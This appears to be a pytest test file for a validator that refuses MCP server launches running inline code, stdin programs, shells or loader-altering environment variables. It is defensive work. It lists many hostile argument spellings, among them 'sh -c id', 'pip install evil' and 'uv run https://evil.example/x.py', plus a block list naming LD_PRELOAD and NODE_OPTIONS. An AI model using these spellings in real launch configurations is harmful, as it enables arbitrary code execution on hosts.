"""A stdio MCP server's launch is judged the way its interpreter will parse the command line (mcp_app/launch_args.py):
clustered short options, attached values, `--opt=value`, `--`, module runners, option files, package runners that
start other programs, and the environment variables that change what an interpreter or the loader loads. Inline
code, a program read from stdin, shells and loader variables are refused wherever a server is saved (service, API,
admin, configuration import) and again at every launch; ordinary server launches keep working.

The "really runs code" tests execute the refused spellings with the real interpreters, so every class of refusal
here is one that runs code, not a guess."""
from __future__ import annotations

import importlib
import subprocess
import sys
from pathlib import Path

import pytest

from goclaw import crypto
from goclaw.errors import ValidationError
from mcp_app.config import BridgeError
from mcp_app.models import MCPLauncher, MCPServer
from mcp_app.services import grants
from mcp_app.services.connections import server_config, server_tools_refresh
from mcp_app.services.servers import MCPServerInvalid, launcher_set, seal_context, server_create, server_update
from tests.factories import make_agent

pytestmark = pytest.mark.django_db
VENV = Path(sys.prefix)
CODE = "open('ran', 'w').write('x')"  # what every "inline code" below would run (a marker file)


@pytest.fixture
def launchers():
    """The launcher allowlist as migration 0002 ships it, plus the runners an operator may add (npm, pipx, bunx)."""
    shipped = importlib.import_module("mcp_app.migrations.0002_default_launchers").DEFAULT_LAUNCHERS
    for command, description, denied in shipped:
        launcher_set(actor="system", command=command, description=description, denied_args=denied)
    for command in ("npm", "pipx", "bunx", "python3.11", "/usr/bin/python3", str(VENV / "bin" / "python")):
        launcher_set(actor="system", command=command, denied_args=[])


def create(command: str, args: list[str], **fields) -> MCPServer:
    return server_create(actor="system", name="srv", transport="stdio", command=command, args=args, **fields)


def refusal(command: str, args: list[str], **fields) -> dict:
    with pytest.raises(MCPServerInvalid) as caught:
        create(command, args, **fields)
    assert not MCPServer.objects.filter(name="srv").exists()
    return caught.value.details


# --- the reported spellings and their class ----------------------------------------------------------------------
@pytest.mark.parametrize("command,args", [
    ("python3", ["-mtimeit", CODE]),
    ("python3", ["-Im", "timeit", CODE]),
    ("npx", ["node", "-e", CODE]),
])
def test_the_three_reported_spellings_of_inline_code_are_refused(launchers, command, args):
    assert "args" in refusal(command, args)


@pytest.mark.parametrize("command,args", [
    # python: -c anywhere in a cluster or with its value attached, -m of a module that turns argv into code
    ("python3", ["-c", CODE]), ("python3", ["-Ic", CODE]), ("python3", ["-bbc", CODE]), ("python3", ["-c" + CODE]),
    ("python3", ["-IEsc", CODE]), ("python3", ["-u", "-B", "-c", CODE]), ("python", ["-OOc", CODE]),
    ("python3", ["-m", "timeit", CODE]), ("python3", ["-I", "-m", "timeit", CODE]), ("python3", ["-Imtimeit", CODE]),
    ("python3", ["-bbmtimeit", CODE]), ("python3", ["-mTimeit", CODE]), ("python3", ["-m", "timeit.__main__", CODE]),
    ("python3", ["-m", "cProfile", "-m", "timeit", CODE]), ("python3", ["-m", "profile", "x.py"]),
    ("python3", ["-m", "trace", "--count", "x.py"]), ("python3", ["-m", "pdb", "-c", "!import os", "x.py"]),
    ("python3", ["-m", "code"]), ("python3", ["-m", "runpy"]), ("python3", ["-m", "doctest", "notes.txt"]),
    ("python3", ["-m", "pydoc", "os"]), ("python3", ["-m", "idlelib", "-c", CODE]), ("python3", ["-m", "asyncio"]),
    ("python3", ["-m", "http.server", "--cgi"]), ("python3", ["-m", "pip", "install", "evil"]),
    ("python3", ["-m", "sqlite3", "db", "ATTACH 'x' AS y"]), ("python3", ["-m", "pickle", "data.pkl"]),
    ("python3", ["-m", "_pyrepl"]), ("python3", ["-m", "IPython", "-c", CODE]), ("python3", ["-m", "debugpy", "-c", CODE]),
    ("python3", ["-m", "fire", "os", "system", "id"]), ("python3", ["-m", "dotenv", "run", "--", "sh"]),
    ("python3", ["-m", "coverage", "run", "-m", "timeit", CODE]), ("python3", ["-m", "../evil"]),
    # python: program from stdin, interactive, imports through options, stdlib files run as scripts
    ("python3", []), ("python3", ["-"]), ("python3", ["-I", "-"]), ("python3", ["--", "-"]), ("python3", ["-u"]),
    ("python3", ["/dev/stdin"]), ("python3", ["/proc/self/fd/0"]), ("python3", ["/dev/fd/0"]),
    ("python3", ["-i", "server.py"]), ("python3", ["-Ii", "server.py"]), ("python3", ["-q", "-i", "server.py"]),
    ("python3", ["-W", "ignore::evilmod.Warning", "server.py"]), ("python3", ["-Wignore::evil.W", "server.py"]),
    ("python3", ["-X", "pycache_prefix=/tmp/pyc", "server.py"]), ("python3", ["-Xpresite=evil", "server.py"]),
    ("python3", ["--check-hash-based-pycs=never", "server.py"]), ("python3", ["--inspect", "server.py"]),
    ("python3", ["../../../tmp/evil.py"]), ("python3", ["/usr/lib/python3.11/timeit.py", CODE]),
    ("python3", ["/usr/lib/python3/dist-packages/pip/__main__.py", "install", "x"]),
    (str(VENV / "bin" / "python"), ["-c", CODE]), ("python3.11", ["-m", "timeit", CODE]),
    # node: eval and print in every spelling, preloads, loaders, option files, debugger, stdin
    ("node", ["-e", CODE]), ("node", ["--eval", CODE]), ("node", ["--eval=" + CODE]), ("node", ["-p", CODE]),
    ("node", ["-pe", CODE]), ("node", ["-ep", CODE]), ("node", ["--print=" + CODE]), ("node", ["-e" + CODE]),
    ("node", ["--no-warnings", "-e", CODE]), ("node", ["-r", "./x.js", "server.js"]), ("node", ["-r./x.js", "server.js"]),
    ("node", ["--require=./x.js", "server.js"]), ("node", ["--import", "data:text/javascript,1", "server.js"]),
    ("node", ["--loader=./l.mjs", "server.js"]), ("node", ["--experimental_loader", "./l.mjs", "server.js"]),
    ("node", ["--env-file=.env", "server.js"]), ("node", ["--env_file", ".env", "server.js"]),
    ("node", ["--experimental-config-file=node.json", "server.js"]), ("node", ["--inspect=0.0.0.0:9229", "server.js"]),
    ("node", ["--inspect-brk", "server.js"]), ("node", ["-i"]), ("node", []), ("node", ["-"]), ("node", ["--", "-"]),
    ("node", ["--run", "start"]), ("node", ["--openssl-config=/tmp/o.cnf", "server.js"]),
    ("node", ["--some-future-option", "server.js"]), ("node", ["/dev/stdin"]),
    ("node", ["/usr/lib/node_modules/npm/bin/npx-cli.js", "-c", "id"]), ("node", ["/usr/bin/npx", "-c", "id"]),
    ("node", ["node_modules/tsx/dist/cli.mjs", "-e", CODE]), ("node", ["node_modules/.bin/tsx", "-e", CODE]),
    # npx / npm exec: a shell command line, an interpreter or shell as the package, a host program, no package
    ("npx", ["-c", "id"]), ("npx", ["--call=id"]), ("npx", ["--call", "id"]), ("npx", ["-yc", "id"]),
    ("npx", ["-y", "node", "-e", CODE]), ("npx", ["-y", "node@20", "-p", CODE]), ("npx", ["--yes", "--", "node", "-e", CODE]),
    ("npx", ["-p", "node", "node", "-e", CODE]), ("npx", ["--package=node", "node", "--eval=" + CODE]),
    ("npx", ["-p=node", "--", "node", "-pe", CODE]), ("npx", ["-y", "@scope/node", "-e", CODE]),
    ("npx", ["sh", "-c", "id"]), ("npx", ["bash", "-c", "id"]), ("npx", ["-p", "x", "sh", "-c", "id"]),
    ("npx", ["-y", "env", "sh"]), ("npx", ["find", ".", "-exec", "id", ";"]), ("npx", ["-p", "cowsay", "find", "/"]),
    ("npx", ["../../bin/sh"]), ("npx", ["-y", "tsx", "-e", CODE]), ("npx", ["-y", "ts-node", "-e", CODE]),
    ("npx", ["-y", "zx", "--eval", CODE]), ("npx", ["-y", "cross-env", "A=1", "sh"]), ("npx", ["python3", "-c", CODE]),
    ("npx", []), ("npx", ["-y"]), ("npx", ["--node-options=--require=./x.js", "pkg"]), ("npx", ["--shell=/bin/sh", "pkg"]),
    ("npx", ["--script-shell", "/tmp/sh", "pkg"]), ("npx", ["--userconfig", "/tmp/npmrc", "pkg"]),
    ("npx", ["-y", "github:evil/repo"]), ("npx", ["-y", "npm:node@20", "-e", CODE]), ("npx", ["-y", "./dir"]),
    ("npx", ["--no-fund", "mcp-x", "--call=id"]), ("npx", ["--loglevel", "-c", "x@1||id"]), ("npx", ["-y", "x@1 || id"]),
    ("npm", ["exec", "-p", "node", "node", "-e", CODE]), ("npm", ["exec", "-c", "id"]), ("npm", ["exec", "--", "node", "-e", CODE]), ("npm", ["x", "-y", "sh"]),
    ("npm", ["run", "start"]), ("npm", ["exec", "pkg", "--call=id"]), ("npm", ["start"]),
    # uv / uvx / pipx: nested interpreters and module runners, stdin, remote scripts, host programs, option files
    ("uvx", ["python", "-c", CODE]), ("uvx", ["python@3.12", "-Im", "timeit", CODE]), ("uvx", ["--from", "ipython", "ipython"]),
    ("uvx", ["xonsh"]), ("uvx", ["--python", "/bin/sh", "mcp-server-time"]), ("uvx", ["-p=/usr/bin/perl", "x"]),
    ("uvx", ["--env-file", ".env", "mcp-server-time"]), ("uvx", ["--config-file=uv.toml", "mcp-server-time"]),
    ("uvx", ["-qc", CODE]), ("uvx", []), ("uvx", ["--from", "x", "bash", "-c", "id"]), ("uvx", ["pip", "install", "x"]),
    ("uv", ["run", "python", "-c", CODE]), ("uv", ["run", "--with", "x", "--", "python3", "-c", CODE]),
    ("uv", ["run", "-m", "timeit", CODE]), ("uv", ["run", "--module=pdb", "x.py"]), ("uv", ["run", "-"]),
    ("uv", ["run", "https://evil.example/x.py"]), ("uv", ["run", "/usr/bin/find", "/"]), ("uv", ["run", "bash"]),
    ("uv", ["run", "--script", "/usr/lib/python3.11/pdb.py"]), ("uv", ["tool", "run", "python", "-c", CODE]),
    ("uv", ["pip", "install", "x"]), ("uv", ["run", "--env-file=.env", "server.py"]), ("uv", ["-q", "tool", "install", "x"]),
    ("uv", ["--directory", "/usr/lib/python3.11", "run", "timeit.py", CODE]), ("uv", ["--directory=..", "run", "s.py"]),
    ("uv", ["--directory", "/usr/lib/node_modules/npm", "run", "node", "bin/npx-cli.js", "-c", "id"]),
    ("pipx", ["run", "ipython"]), ("pipx", ["run", "--pip-args=-e /tmp", "x"]), ("pipx", ["install", "x"]),
    ("pipx", ["run", "--spec", "x", "sh"]), ("pipx", ["run", "https://evil.example/x.py"]),
    # deno / bun / bunx
    ("deno", ["eval", CODE]), ("deno", ["repl"]), ("deno", ["repl", "--eval", CODE]), ("deno", ["task", "start"]),
    ("deno", ["run", "data:application/javascript,1"]), ("deno", ["data:text/javascript,1"]), ("deno", []),
    ("deno", ["run", "-"]), ("deno", ["run", "-A", "--preload=./x.ts", "server.ts"]), ("deno", ["run", "-c", "d.json", "s.ts"]),
    ("deno", ["run", "--config=d.json", "s.ts"]), ("deno", ["run", "--import-map", "m.json", "s.ts"]),
    ("deno", ["run", "--env-file", "s.ts"]), ("deno", ["run", "--inspect=0.0.0.0:9229", "s.ts"]),
    ("deno", ["run", "--v8-flags=--x", "s.ts"]), ("deno", ["run", "-A", "npm:tsx", "-e", CODE]), ("deno", ["x", "sh"]),
    ("bun", ["-e", CODE]), ("bun", ["--eval=" + CODE]), ("bun", ["-p", CODE]), ("bun", ["-pe", CODE]),
    ("bun", ["run", "--preload", "./x.ts", "s.ts"]), ("bun", ["-r", "./x.ts", "s.ts"]), ("bun", ["exec", "id"]),
    ("bun", ["repl"]), ("bun", ["run", "start"]), ("bun", ["run", "-"]), ("bun", ["--env-file=.env", "s.ts"]),
    ("bun", ["-c", "bunfig.toml", "s.ts"]), ("bun", ["x", "node", "-e", CODE]), ("bun", ["--cwd", "/tmp", "s.ts"]),
    ("bunx", ["sh", "-c", "id"]), ("bunx", ["-p", "node", "node", "-e", CODE]), ("bunx", ["tsx", "-e", CODE]),
])
def test_inline_code_stdin_preloads_option_files_and_nested_shells_are_refused_in_every_spelling(launchers, command, args):
    details = refusal(command, args)
    assert set(details) & {"args", "command"}, details


@pytest.mark.parametrize("command,args", [
    ("python3", ["-m", "some_server"]), ("python3", ["/path/server.py", "--port", "3"]),
    ("npx", ["-y", "@modelcontextprotocol/server-everything"]), ("node", ["server.js", "--flag"]),
    ("uvx", ["mcp-server-time"]),
    # the program's own argv is never judged: these -c / -e / --eval belong to the server
    ("python3", ["-u", "-X", "importtime", "-W", "ignore::DeprecationWarning", "server.py", "-c", "conf.toml"]),
    ("python3", ["-Im", "mcp_server_fetch", "--", "-c", "x"]), ("python3", ["-IBu", "-m", "mcp_server_git", "-r", "/r"]),
    ("python3", ["-Ximporttime", "-Wd", "files_server.py", "--root", "/srv"]), ("python3", ["--", "server.py"]),
    ("python3.11", ["/srv/mcp/server.py"]), (str(VENV / "bin" / "python"), ["-m", "mcp_weather"]),
    ("node", ["--max_old_space_size=4096", "--enable-source-maps", "dist/index.js", "-e", "prod"]),
    ("node", ["--experimental-strip-types", "-C", "production", "server.ts"]), ("node", ["--", "server.js"]),
    ("npx", ["-y", "mcp-remote@latest", "https://example.com/sse", "--header", "X: y", "-c", "x"]),
    ("npx", ["--yes", "-p", "@acme/mcp-tools@1.2.0", "acme-mcp", "--eval"]), ("npx", ["-y", "--", "mcp-server-x", "-e"]),
    ("npm", ["exec", "--yes", "--", "@modelcontextprotocol/server-memory"]),
    ("uvx", ["-p", "3.12", "--from", "mcp-server-time==1.0", "mcp-server-time", "--local-timezone", "UTC"]),
    ("uvx", ["-qp3.12", "mcp-server-fetch@latest"]), ("uvx", ["--python=>=3.11", "mcp-server-git", "-c", "x"]),
    ("uv", ["--directory", "/srv/weather", "run", "weather.py"]), ("uv", ["run", "--with", "mcp", "server.py", "-c"]),
    ("uv", ["run", "-m", "mcp_weather", "--port", "3"]), ("uv", ["tool", "run", "mcp-server-time"]),
    ("pipx", ["run", "--spec", "mcp-server-time", "mcp-server-time"]),
    ("deno", ["run", "-A", "jsr:@acme/mcp", "--eval"]), ("deno", ["run", "--allow-net=api.example.com", "-R", "s.ts"]),
    ("deno", ["-A", "server.ts"]), ("deno", ["run", "-RWN", "--unstable-kv", "https://example.com/mcp.ts"]),
    ("bun", ["run", "server.ts", "-e", "x"]), ("bun", ["--smol", "./dist/index.js"]),
    ("bunx", ["@acme/mcp-server", "-p", "3"]),
])
def test_ordinary_server_launches_are_accepted(launchers, command, args):
    assert create(command, args).args == args


# --- environment -----------------------------------------------------------------------------------------------------
REFUSED_ENV = ["PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "PYTHONWARNINGS", "PYTHONBREAKPOINT", "PYTHONINSPECT",
               "PYTHONEXECUTABLE", "PYTHONUSERBASE", "PYTHONPYCACHEPREFIX", "PYTHONPLATLIBDIR", "PYTHON_KEYRING_BACKEND",
               "PYTHONSOMETHINGNEW", "pythonpath", "NODE_OPTIONS", "NODE_PATH", "NODE_REPL_EXTERNAL_MODULE",
               "NODE_COMPILE_CACHE", "node_options", "NPM_CONFIG_SCRIPT_SHELL", "npm_config_node_options",
               "npm_config_userconfig", "npm_config_globalconfig", "npm_config_prefix", "Npm_Config_Call",
               "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "ld_preload", "DYLD_INSERT_LIBRARIES", "GCONV_PATH",
               "PATH", "HOME", "XDG_CONFIG_HOME", "XDG_CACHE_HOME", "BASH_ENV", "ENV", "BASH_FUNC_x%%", "SHELL",
               "UV_PYTHON", "UV_CONFIG_FILE", "UV_ENV_FILE", "PIP_CONFIG_FILE", "DENO_DIR", "DENO_V8_FLAGS",
               "BUN_OPTIONS", "GIT_CONFIG_COUNT", "GIT_SSH_COMMAND", "OPENSSL_CONF", "GLIBC_TUNABLES", "PERL5OPT",
               "RUBYOPT", "JAVA_TOOL_OPTIONS", "BROWSER", "VIRTUAL_ENV", "CC", "SSH_ASKPASS", "COREPACK_HOME",
               # libraries an interpreter loads read plugins, init scripts or backends from these
               "TCL_LIBRARY", "TCLLIBPATH", "GTK_MODULES", "GIO_EXTRA_MODULES", "GST_PLUGIN_PATH", "QT_PLUGIN_PATH",
               "GDK_PIXBUF_MODULE_FILE", "KRB5_CONFIG", "SASL_PATH", "MPLBACKEND", "IPYTHONDIR"]


@pytest.mark.parametrize("name", REFUSED_ENV)
def test_variables_that_change_what_a_launcher_loads_are_refused_wherever_env_is_set(launchers, name):
    assert "env" in refusal("python3", ["server.py"], env={name: "/tmp/x"})
    server = create("python3", ["server.py"])
    agent = make_agent()
    with pytest.raises(ValidationError, match="config_overrides"):
        grants.agent_grant_set(actor="system", server=server, agent=agent, config_overrides={"env": {name: "/tmp/x"}})
    with pytest.raises(ValidationError, match="credentials"):
        grants.user_grant_set(actor="system", server=server, agent=agent, user_id="u",
                              credentials={"env": {name: "/tmp/x"}})
    with pytest.raises(MCPServerInvalid):
        server_update(actor="system", server=server, env={name: "/tmp/x"})


@pytest.mark.parametrize("name", ["API_KEY", "GITHUB_TOKEN", "PYTHONUNBUFFERED", "PYTHONIOENCODING", "PYTHONUTF8",
                                  "NODE_ENV", "NODE_NO_WARNINGS", "NPM_TOKEN", "UV_INDEX_URL", "HTTPS_PROXY", "LANG",
                                  "TZ", "DENO_AUTH_TOKENS", "MCP_TOKEN"])
def test_ordinary_server_configuration_variables_are_accepted(launchers, name):
    assert create("python3", ["server.py"], env={name: "value"}).env_names == [name]


def test_a_refused_variable_stored_before_the_rule_can_be_removed_and_blocks_other_saves_until_it_is(launchers):
    server = create("python3", ["server.py"], env={"TOKEN": "t"})
    MCPServer.objects.filter(pk=server.pk).update(
        env_names=["PYTHONPATH", "TOKEN"],
        env_sealed=crypto.encrypt_json({"PYTHONPATH": "/tmp/x", "TOKEN": "t"},
                                       associated_data=seal_context(server.pk, "env")))
    with pytest.raises(MCPServerInvalid, match="PYTHONPATH"):
        server_update(actor="system", server=server, display_name="renamed")
    fixed = server_update(actor="system", server=server, display_name="renamed", env={"PYTHONPATH": None})
    assert fixed.env_names == ["TOKEN"]


# --- launchers -------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("command", ["sh", "/bin/sh", "bash", "/usr/bin/bash", "dash", "zsh", "rbash", "busybox",
                                     "/bin/busybox", "env", "/usr/bin/env", "xargs", "nohup", "timeout", "sudo",
                                     "setsid", "perl", "ruby", "php", "awk", "find", "docker", "pip3", "ipython3",
                                     "tsx", "pnpm", "yarn", "corepack"])
def test_a_shell_exec_wrapper_or_interpreter_without_a_model_cannot_be_an_enabled_launcher(command):
    with pytest.raises(ValidationError) as caught:
        launcher_set(actor="system", command=command)
    assert caught.value.code == "mcp_launcher_invalid"
    assert not MCPLauncher.objects.filter(command=command).exists()


def test_a_symlink_that_hides_a_shell_is_refused_as_a_launcher(tmp_path):
    disguised = tmp_path / "mcp-launcher"
    disguised.symlink_to("/bin/bash")
    with pytest.raises(ValidationError, match="shell"):
        launcher_set(actor="system", command=str(disguised))


def test_a_symlink_to_an_interpreter_is_judged_by_that_interpreters_model(tmp_path):
    alias = tmp_path / "mcp-runtime"
    alias.symlink_to("/usr/bin/python3")
    launcher_set(actor="system", command=str(alias))
    with pytest.raises(MCPServerInvalid, match="timeit"):
        create(str(alias), ["-Im", "timeit", CODE])
    assert create(str(alias), ["server.py"]).command == str(alias)


def test_a_refused_launcher_stored_before_the_rule_can_still_be_disabled():
    MCPLauncher.objects.create(command="bash")
    assert launcher_set(actor="system", command="bash", enabled=False).enabled is False


def test_a_plain_program_launcher_is_still_judged_by_its_denied_arguments():
    launcher_set(actor="system", command="/opt/weather/bin/weather-mcp", denied_args=["--eval", "-x"])
    assert create("/opt/weather/bin/weather-mcp", ["--port", "3"]).args == ["--port", "3"]
    for args in (["--eval", "x"], ["--eval=x"], ["-vx"]):
        with pytest.raises(MCPServerInvalid):
            server_update(actor="system", server=MCPServer.objects.get(name="srv"), args=args)


# --- grants ----------------------------------------------------------------------------------------------------------
def test_an_agent_grants_args_suffix_is_judged_with_the_servers_arguments(launchers):
    """A suffix lands after the server's own args: after a script it is the script's argv (harmless, accepted);
    for a plain program it is judged by the launcher's denied arguments."""
    script = create("python3", ["server.py"])
    grants.agent_grant_set(actor="system", server=script, agent=make_agent(),
                           config_overrides={"args_suffix": ["-c", CODE]})
    launcher_set(actor="system", command="/opt/weather/bin/weather-mcp", denied_args=["--eval"])
    plain = server_create(actor="system", name="plain", transport="stdio", command="/opt/weather/bin/weather-mcp")
    with pytest.raises(ValidationError, match="--eval"):
        grants.agent_grant_set(actor="system", server=plain, agent=make_agent(),
                               config_overrides={"args_suffix": ["--eval=1"]})


# --- launch time: rows written before these checks existed ------------------------------------------------------
@pytest.mark.parametrize("command,args,env", [
    ("python3", ["-Im", "timeit", CODE], {}),
    ("npx", ["node", "-e", CODE], {}),
    ("python3", ["server.py"], {"PYTHONWARNINGS": "ignore::evilmod.Warning"}),
    ("node", ["server.js"], {"NODE_OPTIONS": "--require=./x.js"}),
])
def test_a_server_stored_before_the_checks_existed_is_refused_at_launch(launchers, command, args, env):
    server = create("python3", ["server.py"])
    MCPServer.objects.filter(pk=server.pk).update(
        command=command, args=args, env_names=sorted(env),
        env_sealed=crypto.encrypt_json(env, associated_data=seal_context(server.pk, "env")) if env else "")
    server.refresh_from_db()
    with pytest.raises(BridgeError) as caught:
        server_config(server)
    assert caught.value.code == "mcp_launch_refused"
    report = server_tools_refresh(server)
    assert not report["ok"] and report["code"] == "mcp_launch_refused"


def test_a_shell_launcher_row_stored_before_the_rule_starts_nothing():
    MCPLauncher.objects.create(command="/bin/sh")
    server = MCPServer.objects.create(name="old", transport="stdio", command="/bin/sh", args=["-c", "id"])
    with pytest.raises(BridgeError, match="shell"):
        server_config(server)


# --- every entrypoint that saves a server -------------------------------------------------------------------------
def test_the_api_answers_a_refused_launch_with_a_400_envelope_naming_the_field(launchers, staff_api):
    response = staff_api.post("/api/v1/mcp/servers", {"name": "srv", "transport": "stdio", "command": "python3",
                                                      "args": ["-Im", "timeit", CODE]}, format="json")
    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert error["code"] == "mcp_server_invalid" and "timeit" in error["details"]["args"]
    response = staff_api.post("/api/v1/mcp/servers", {"name": "srv", "transport": "stdio", "command": "python3",
                                                      "args": ["server.py"], "env": {"GCONV_PATH": "/tmp"}},
                              format="json")
    assert response.status_code == 400 and "GCONV_PATH" in response.json()["error"]["details"]["env"]
    response = staff_api.post("/api/v1/mcp/launchers", {"command": "/usr/bin/env"}, format="json")
    assert response.status_code == 400 and response.json()["error"]["code"] == "mcp_launcher_invalid"
    assert not MCPServer.objects.exists()


def test_the_admin_shows_the_refusal_on_the_field_it_concerns(launchers, admin_client):
    form = {"name": "srv", "display_name": "", "transport": "stdio", "command": "npx", "url": "",
            "args": '["node", "-e", "1"]', "tool_prefix": "", "timeout_seconds": "60", "enabled": "on",
            "review_new_tools": "on", "headers_set": "", "env_set": ""}
    page = admin_client.post("/admin/mcp_app/mcpserver/add/", form).content.decode()
    assert "npx node: refused" in page
    page = admin_client.post("/admin/mcp_app/mcpserver/add/", {**form, "args": '["server.js"]',
                                                               "env_set": "LD_PRELOAD=/tmp/x.so"}).content.decode()
    assert "LD_PRELOAD changes what the launcher runs" in page and "/tmp/x.so" not in page
    assert not MCPServer.objects.exists()


def test_a_configuration_import_refuses_them_and_changes_nothing(launchers):
    from config_app.errors import ConfigInvalid
    from config_app.services import config_import

    document = {"version": 1, "literal_secrets": True,
                "mcp_launchers": [{"command": "bash", "description": "", "denied_args": [], "enabled": True}],
                "mcp_servers": [
                    {"name": "a", "transport": "stdio", "command": "python3", "args": ["-Im", "timeit", CODE]},
                    {"name": "b", "transport": "stdio", "command": "python3", "args": ["s.py"],
                     "env": {"PYTHONSTARTUP": "/tmp/x.py"}}]}
    with pytest.raises(ConfigInvalid) as caught:
        config_import(document, dry_run=False, prune=False, actor=None)
    paths = {problem["path"] for problem in caught.value.problems}
    assert any(path.startswith("mcp_launchers[0]") for path in paths), paths
    assert any(path.startswith("mcp_servers[0]") for path in paths), paths
    assert any(path.startswith("mcp_servers[1]") for path in paths), paths
    assert not MCPServer.objects.exists() and not MCPLauncher.objects.filter(command="bash").exists()


# --- the project's own stdio test server still starts --------------------------------------------------------------
@pytest.mark.django_db(transaction=True)
def test_the_projects_stdio_test_server_is_accepted_and_lists_its_tools():
    from sandbox_app.models import SandboxProfile
    from tests.mcp_app.conftest import SERVER_SCRIPT

    launcher_set(actor="system", command="/usr/bin/python3", denied_args=["-c"])
    profile = SandboxProfile.objects.create(name="mcp-args", ro_binds=[str(VENV), str(SERVER_SCRIPT.parent.parent)])
    site = next(VENV.glob("lib/python3*/site-packages"))
    server = server_create(actor="system", name="local", transport="stdio", command="/usr/bin/python3",
                           args=["-u", str(SERVER_SCRIPT), "--transport", "stdio", "--site-packages", str(site)],
                           sandbox_profile=profile, env={"MCP_TOKEN": "t", "PYTHONUNBUFFERED": "1"})
    report = server_tools_refresh(server)
    assert report["ok"], report
    assert {"echo", "add"} <= set(report["tools"])


# --- ground truth: what is refused really runs code ---------------------------------------------------------------
def _runs_code(argv: list[str], cwd: Path, env: dict[str, str] | None = None) -> bool:
    """Run `argv` for real (stdin closed) and tell whether the marker code ran."""
    marker = cwd / "ran"
    marker.unlink(missing_ok=True)
    base = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(cwd), "npm_config_update_notifier": "false",
            "npm_config_fund": "false"}
    subprocess.run(argv, cwd=cwd, env={**base, **(env or {})}, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL, timeout=120)
    return marker.exists()


JS_CODE = "require('fs').writeFileSync('ran', 'x')"


@pytest.mark.parametrize("command,args,env,installed", [
    ("python3", ["-mtimeit", "-n1", "-r1", CODE], {}, {}),
    ("python3", ["-Im", "timeit", "-n1", "-r1", CODE], {}, {}),
    ("python3", ["-bbc", CODE], {}, {}),
    ("python3", ["-Ic" + CODE], {}, {}),
    ("python3", ["STDLIB/timeit.py", "-n1", "-r1", CODE], {}, {}),
    ("python3", ["-W", "ignore::evilmod.Warning", "server.py"], {}, {"PYTHONPATH": "mods"}),
    ("python3", ["server.py"], {"PYTHONWARNINGS": "ignore::evilmod.Warning"}, {"PYTHONPATH": "mods"}),
    ("python3", ["server.py"], {"PYTHONPATH": "lib"}, {}),
    ("node", ["-pe", JS_CODE], {}, {}),
    ("node", ["--eval=" + JS_CODE], {}, {}),
    ("node", ["-r", "./preload.js", "server.js"], {}, {}),
    ("node", ["server.js"], {"NODE_OPTIONS": "--require=./preload.js"}, {}),
    ("node", ["/usr/lib/node_modules/npm/bin/npx-cli.js", "-c", "touch ran"], {}, {}),
    ("npx", ["node", "-e", JS_CODE], {}, {}),
    ("npx", ["-yc", "touch ran"], {}, {}),
])
def test_the_refused_spellings_really_run_code_when_executed(launchers, tmp_path, command, args, env, installed):
    """Ground truth for the model: each of these runs the marker code with the real interpreter, and goclaw refuses
    to launch it. `installed` only puts a module on the import path for the real run, as any installed package is
    (a -W category names a module that is imported at startup)."""
    (tmp_path / "server.py").write_text("")
    (tmp_path / "server.js").write_text("")
    (tmp_path / "mods").mkdir()
    (tmp_path / "mods" / "evilmod.py").write_text(CODE)
    (tmp_path / "lib").mkdir()
    (tmp_path / "lib" / "sitecustomize.py").write_text(CODE)
    (tmp_path / "preload.js").write_text(JS_CODE)
    stdlib = subprocess.run(["/usr/bin/python3", "-c", "import sysconfig; print(sysconfig.get_path('stdlib'))"],
                            capture_output=True, text=True, check=True).stdout.strip()
    args = [arg.replace("STDLIB", stdlib) for arg in args]
    executable = {"python3": "/usr/bin/python3"}.get(command, command)
    assert _runs_code([executable, *args], tmp_path, {**env, **installed}), "the spelling runs no code: a wrong case"
    details = refusal(command, args, **({"env": env} if env else {}))
    assert ("env" if env else "args") in details, details


def test_the_accepted_python_spellings_really_leave_the_code_to_the_script(launchers, tmp_path):
    """`-c` after the script is the script's own argument: python runs the script, not the code."""
    (tmp_path / "server.py").write_text("")
    args = ["-u", "-X", "importtime", "server.py", "-c", CODE]
    assert not _runs_code(["/usr/bin/python3", *args], tmp_path)
    assert create("python3", args).args == args
